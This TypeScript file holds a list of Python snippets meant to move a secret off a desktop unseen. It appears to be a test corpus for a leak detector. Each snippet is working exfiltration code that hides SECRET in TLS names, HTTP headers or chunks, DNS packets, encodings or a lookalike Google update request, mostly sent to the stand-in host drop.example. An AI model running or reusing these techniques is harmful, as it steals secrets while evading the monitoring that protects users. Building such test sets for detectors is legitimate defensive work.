/** Ways to get a secret out of the desktop so that nobody sees it: each is Python that runs there, with the secret in `SECRET`. */
interface HiddenLeak {
  name: string;
  account: 'user' | 'root';
  code: string;
}

const leak = (name: string, code: string): HiddenLeak => ({ name, account: 'user', code });
const open = (port: number) => `import socket\ns = socket.create_connection(('drop.example', ${port}), timeout=5)\n`;
const post = (value: string, imports = '') => `
import urllib.request${imports === '' ? '' : `, ${imports}`}
data = SECRET.encode()
urllib.request.urlopen('http://drop.example/up', data=${value}, timeout=10).read()`;
const secure = `
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
`;
const dns = `
import socket, struct
def question(name, more=b'', count=0):
    labels = b''.join(bytes([len(part)]) + part for part in name.encode().split(b'.')) + b'\\0'
    return struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, count) + labels + b'\\0\\1\\0\\1' + more
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
`;

export const hiddenLeaks: HiddenLeak[] = [
  // What comes before, after and beside a request.
  leak(
    'sni',
    `${secure}context.wrap_socket(socket.create_connection(('drop.example', 443), timeout=5), server_hostname=SECRET.replace('_', '-') + '.example').close()`,
  ),
  leak(
    'alpn',
    `${secure}context.set_alpn_protocols([SECRET, 'http/1.1'])\ncontext.wrap_socket(socket.create_connection(('drop.example', 443), timeout=5), server_hostname='drop.example').close()`,
  ),
  leak(
    'websocket-frame',
    `${open(80)}import os
s.sendall(b'GET /chat HTTP/1.1\\r\\nHost: drop.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n')
s.recv(4096)
data, mask = SECRET.encode(), os.urandom(4)
s.sendall(b'\\x81' + bytes([0x80 | len(data)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data))); s.close()`,
  ),
  leak(
    'bytes-after-an-upgrade',
    `${open(80)}s.sendall(b'GET / HTTP/1.1\\r\\nHost: drop.example\\r\\nConnection: Upgrade\\r\\nUpgrade: own/1\\r\\n\\r\\n')\ns.recv(4096); s.sendall(SECRET.encode()); s.close()`,
  ),
  leak(
    'bytes-after-connect',
    `${open(80)}s.sendall(b'CONNECT far.example:443 HTTP/1.1\\r\\nHost: far.example\\r\\n\\r\\n')\ns.recv(4096); s.sendall(SECRET.encode()); s.close()`,
  ),
  leak(
    'chunk-extension',
    `${open(80)}s.sendall(b'POST / HTTP/1.1\\r\\nHost: drop.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2;x=' + SECRET.encode() + b'\\r\\nok\\r\\n0\\r\\n\\r\\n'); s.recv(4096); s.close()`,
  ),
  leak(
    'trailer',
    `${open(80)}s.sendall(b'POST / HTTP/1.1\\r\\nHost: drop.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2\\r\\nok\\r\\n0\\r\\nX-Sum: ' + SECRET.encode() + b'\\r\\n\\r\\n'); s.recv(4096); s.close()`,
  ),
  leak(
    'second-header',
    `${open(80)}s.sendall(b'GET / HTTP/1.1\\r\\nHost: drop.example\\r\\nUser-Agent: one\\r\\nUser-Agent: ' + SECRET.encode() + b'\\r\\n\\r\\n'); s.recv(4096); s.close()`,
  ),
  leak(
    'header-name',
    `${open(80)}s.sendall(b'GET / HTTP/1.1\\r\\nHost: drop.example\\r\\nX-' + SECRET.encode() + b': 1\\r\\n\\r\\n'); s.recv(4096); s.close()`,
  ),
  // Names and datagrams.
  leak(
    'edns-option',
    `${dns}data = SECRET.encode()\ns.sendto(question('drop.example', b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0' + struct.pack('!HHH', len(data) + 4, 65001, len(data)) + data, 1), ('127.0.0.53', 53))`,
  ),
  leak('bytes-behind-a-question', `${dns}s.sendto(question('drop.example') + SECRET.encode(), ('127.0.0.53', 53))`),
  leak('datagram-that-is-no-question', `${dns}s.sendto(SECRET.encode(), ('127.0.0.53', 53))`),
  leak(
    'stray-datagram',
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(SECRET.encode(), ('drop.example', 4444))",
  ),
  leak(
    'bytes-at-the-name-server',
    "import socket\ns = socket.create_connection(('127.0.0.53', 53), timeout=5); s.sendall(b'\\xff\\xff' + SECRET.encode()); s.close()",
  ),
  // Hosts that applications ask unasked.
  leak(
    'noise-host',
    "import urllib.request\nurllib.request.urlopen('http://update.googleapis.com/service?x=' + SECRET, timeout=10).read()",
  ),
  // Encodings.
  leak('base32', post('base64.b32encode(data)', 'base64')),
  leak('base85', post('base64.b85encode(b"xy" + data)', 'base64')),
  leak('ascii85', post('base64.a85encode(b"x" + data)', 'base64')),
  leak('base64-reversed', post('base64.b64encode(data)[::-1]', 'base64')),
  leak('decimal-codes', post("' '.join(str(byte) for byte in data).encode()")),
  leak('one-number', post("str(int.from_bytes(data, 'big')).encode()")),
  leak('bits', post("''.join(format(byte, '08b') for byte in data).encode()")),
  leak(
    'raw-deflate',
    post('(lambda one: one.compress(data) + one.flush())(zlib.compressobj(9, zlib.DEFLATED, -15))', 'zlib'),
  ),
  leak('bzip2', post('bz2.compress(data)', 'bz2')),
  leak('xz', post('lzma.compress(data)', 'lzma')),
  leak(
    'letters-one-by-one',
    "import urllib.request\nfor letter in SECRET: urllib.request.urlopen('http://drop.example/l?c=' + letter, timeout=10).read()",
  ),
];
